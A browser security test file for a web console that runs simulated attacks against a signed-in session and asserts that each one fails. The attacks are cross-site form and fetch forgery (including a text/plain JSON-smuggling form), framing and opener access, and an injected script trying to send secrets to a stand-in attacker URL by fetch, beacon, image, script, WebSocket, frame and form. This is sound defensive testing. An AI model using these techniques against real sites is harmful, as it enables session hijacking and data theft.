/** What pages of other sites, and scripts that have got into a page of ours, can do with a person's login in a real browser. */
import assert from "node:assert/strict";
import { once } from "node:events";
import { createServer, type RequestListener } from "node:http";
import type { AddressInfo } from "node:net";
import { after, suite, test } from "node:test";
import type { Page } from "playwright-core";
import type { LoginState, MemberList } from "@querent/contract";
import { joinAs, type TestPerson } from "../../service/test/people/browser.ts";
import { until } from "../../service/test/harness/wait.ts";
import { noBrowser } from "./harness/chromium.ts";
import { startTestConsole } from "./harness/console.ts";

/** Hosts of the attacker. The console's is 127.0.0.1: another port of it is the same site for cookies, and another origin. */
const attackers = { "another site": "localhost", "another port of this host": "127.0.0.1" };

suite("a person is signed in, and", { skip: noBrowser }, async () => {
  /** Everything that reached the attacker's server. */
  const caught: string[] = [];
  const listener: RequestListener = (request, response) => {
    if (request.url !== "/") caught.push(`${request.method} ${request.url}`);
    response.writeHead(200, { "content-type": "text/html", "access-control-allow-origin": "*" });
    response.end("<!doctype html><title>Attacker</title>");
  };
  const server = createServer(listener).listen(0, "127.0.0.1");
  await once(server, "listening");
  const { port } = server.address() as AddressInfo;
  // Before the service's own hook, which waits until nothing is left open: hooks run in the order in which they were set.
  after(async () => {
    server.close();
    server.closeAllConnections();
    await once(server, "close");
  });

  const { service, visit } = await startTestConsole();
  const { accountId } = await service.account();

  const signedIn = async (person: TestPerson) => {
    const visited = await visit("/", { refusals: true, foreign: ["localhost", `127.0.0.1:${port}`] });
    const { page } = visited;
    await page.getByLabel("E-mail").fill(person.email);
    await page.getByLabel("Password", { exact: true }).last().fill(person.password);
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.getByRole("navigation", { name: "Console" }).waitFor();
    return visited;
  };
  const loginOf = async (person: TestPerson) => {
    const { status, body } = await person.call<LoginState>("GET", "/v1/login");
    return { status, role: body.role, name: body.person.name };
  };
  const membersOf = async (person: TestPerson) => (await person.call<MemberList>("GET", "/v1/members")).body.members;

  for (const [who, host] of Object.entries(attackers)) {
    test(`${who} changes nothing, by forms of each type, by fetch and by images, and reads nothing`, async () => {
      const owner = await joinAs(service, accountId, "owner");
      const member = await joinAs(service, accountId, "viewer");
      const { page: own } = await signedIn(owner);
      const page = await own.context().newPage();
      const targets = [
        ["POST", "/v1/login/sign-out"],
        ["DELETE", "/v1/login"],
        ["DELETE", `/v1/members/${member.state.memberId}`],
        ["PUT", `/v1/members/${member.state.memberId}`, '{"role":"owner"}'],
        ["POST", "/v1/invitations", '{"email":null,"role":"owner"}'],
        ["POST", "/v1/tokens", '{"name":"mine","scopes":["tasks:read"]}'],
        ["POST", "/v1/login", JSON.stringify({ email: member.email, password: member.password })],
      ] as const;
      const answered: string[] = [];
      page.context().on("response", (response) => {
        if (response.url().startsWith(service.address) && response.request().method() !== "GET")
          answered.push(`${response.request().method()} ${new URL(response.url()).pathname} ${response.status()}`);
      });
      for (const [method, path, body = "{}"] of targets) {
        for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
          await page.goto(`http://${host}:${port}/`);
          await submitForm(page, { action: service.address + path, type, body });
        }
        await page.goto(`http://${host}:${port}/`);
        const read = await page.evaluate(sendAll, { url: service.address + path, method, body });
        assert.deepEqual(read, [], `${who} reads ${method} ${path}`);
      }
      assert.ok(answered.length > 20, answered.join("\n"));
      assert.deepEqual(
        answered.filter((answer) => !/ 4\d\d$/.test(answer) && !answer.startsWith("OPTIONS ")),
        [],
      );
      assert.deepEqual(await loginOf(owner), { status: 200, role: "owner", name: "Ada" });
      const roles = new Map((await membersOf(owner)).map(({ memberId, role }) => [memberId, role]));
      assert.equal(roles.get(member.state.memberId), "viewer");
      // The page that was open before is still that of the same person.
      await own.reload();
      await own.getByRole("navigation", { name: "Console" }).waitFor();
      await page.context().close();
    });

    test(`${who} cannot put the console in a frame, nor hold the window that it opens`, async () => {
      const { page: own } = await signedIn(await joinAs(service, accountId, "owner"));
      const page = await own.context().newPage();
      await page.goto(`http://${host}:${port}/`);
      const views = ["/console/members", "/console/connect", "/console/join", "/console/profile", "/docs"];
      for (const path of views) {
        await page.evaluate((address) => {
          const frame = document.createElement("iframe");
          frame.src = address;
          document.body.replaceChildren(frame);
          return new Promise((resolve) => frame.addEventListener("load", resolve));
        }, service.address + path);
        const [, frame] = page.frames();
        const text = await frame?.evaluate(() => document.body.innerText).catch(() => "");
        assert.ok(frame !== undefined && !/Members|Sign in|Profile|Join/.test(text ?? ""), `${path}: ${text}`);
        assert.match(frame.url(), /^chrome-error:/, path);
      }
      const [opened] = await Promise.all([
        page.waitForEvent("popup"),
        page.evaluate(
          (address) => void Object.assign(window, { opened: open(address) }),
          `${service.address}/console/`,
        ),
      ]);
      await opened.getByRole("navigation", { name: "Console" }).waitFor();
      assert.equal(await opened.evaluate("opener"), null, "the console has no opener");
      const reach = await page.evaluate(
        "(() => { try { return String(window.opened.document.title) } catch { return null } })()",
      );
      assert.equal(reach, null, "the opener reads nothing of the console");
      await page.context().close();
    });
  }

  test("a script in the page finds no secret, and can send nothing to another address", async () => {
    const { page } = await signedIn(await joinAs(service, accountId, "owner"));
    const kept = await page.evaluate(
      "JSON.stringify([document.cookie, { ...localStorage }, { ...sessionStorage }, location.href, name])",
    );
    const cookies = (await page.context().cookies()).map(({ value }) => value);
    assert.ok(cookies.length > 0);
    for (const secret of cookies) assert.ok(!String(kept).includes(secret));
    assert.doesNotMatch(String(kept), /qrt_|[A-Za-z0-9_-]{40}/);
    // Nor does any reply tell the secret, which a script would then have.
    for (const path of ["/v1/login", "/v1/logins", "/v1/members"]) {
      const text = await page.evaluate(
        (address) => fetch(address, { headers: { "x-querent-login": "1" } }).then((reply) => reply.text()),
        path,
      );
      for (const secret of cookies) assert.ok(!text.includes(secret), path);
    }
    caught.length = 0;
    const address = `http://localhost:${port}/stolen`;
    const sent = await page.evaluate(smuggle, address);
    assert.deepEqual(sent, [], "the page's policy forbids each way");
    // What was queued would have come by the time a page of the attacker is loaded.
    const other = await page.context().newPage();
    await other.goto(`http://localhost:${port}/marker`);
    await until("the attacker's own page", async () => caught.some((line) => line.includes("/marker")));
    assert.deepEqual(
      caught.filter((line) => line.includes("stolen")),
      [],
    );
    await page.context().close();
  });
});

/** Sends a form into a frame of the attacker's page, and waits until it is answered. */
const submitForm = (page: Page, form: { action: string; type: string; body: string }): Promise<unknown> =>
  page.evaluate(({ action, type, body }) => {
    const frame = document.createElement("iframe");
    frame.name = "answer";
    const element = document.createElement("form");
    Object.assign(element, { action, method: "post", enctype: type, target: frame.name });
    const input = document.createElement("input");
    // As text/plain, name and value together are the JSON.
    input.name = body.slice(0, -1) + (body === "{}" ? '"a":"' : ',"a":"');
    input.value = '"}';
    element.append(input);
    document.body.replaceChildren(frame, element);
    return new Promise((resolve) => {
      frame.addEventListener("load", resolve);
      element.submit();
    });
  }, form);

/** Runs in the attacker's page: every way in which fetch can send with cookies. Returns what it could read. */
async function sendAll({ url, method, body }: { url: string; method: string; body: string }): Promise<string[]> {
  const read: string[] = [];
  const types = ["application/json", "text/plain", "application/x-www-form-urlencoded"];
  for (const mode of ["cors", "no-cors", "same-origin"] as const)
    for (const type of types)
      for (const headers of [{ "content-type": type }, { "content-type": type, "x-querent-login": "1" }])
        try {
          const reply = await fetch(url, { method, mode, credentials: "include", headers, body });
          const text = await reply.text();
          if (text !== "") read.push(text);
        } catch {
          // The browser has refused, before or after sending.
        }
  await new Promise((resolve) => {
    const image = new Image();
    image.addEventListener("load", resolve);
    image.addEventListener("error", resolve);
    image.src = url;
  });
  return read;
}

/** Runs in the console's page. Returns the ways that the browser did not refuse; whether a beacon or a frame was sent, the server says. */
async function smuggle(address: string): Promise<string[]> {
  const ways: Record<string, () => unknown> = {
    fetch: () => fetch(address, { mode: "no-cors" }),
    beacon: () => {
      if (!navigator.sendBeacon(`${address}-beacon`, "secret")) throw new Error();
    },
    image: () =>
      new Promise((resolve, reject) => {
        const image = new Image();
        image.addEventListener("load", resolve);
        image.addEventListener("error", reject);
        image.src = `${address}-image`;
      }),
    script: () =>
      new Promise((resolve, reject) => {
        const script = document.createElement("script");
        script.addEventListener("load", resolve);
        script.addEventListener("error", reject);
        script.src = `${address}-script`;
        document.head.append(script);
      }),
    socket: () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(`${address.replace("http", "ws")}-socket`);
        socket.addEventListener("open", resolve);
        socket.addEventListener("error", reject);
      }),
    frame: () =>
      new Promise((resolve, reject) => {
        document.addEventListener("securitypolicyviolation", reject, { once: true });
        const frame = document.createElement("iframe");
        frame.addEventListener("load", resolve);
        frame.src = `${address}-frame`;
        document.body.append(frame);
      }),
    form: () =>
      new Promise((resolve, reject) => {
        document.addEventListener("securitypolicyviolation", reject, { once: true });
        const form = document.createElement("form");
        Object.assign(form, { action: `${address}-form`, method: "post" });
        document.body.append(form);
        form.submit();
        window.addEventListener("pagehide", resolve);
      }),
  };
  const open: string[] = [];
  for (const [name, send] of Object.entries(ways))
    try {
      await send();
      if (!["beacon", "frame"].includes(name)) open.push(name);
    } catch {
      // Refused.
    }
  return open;
}
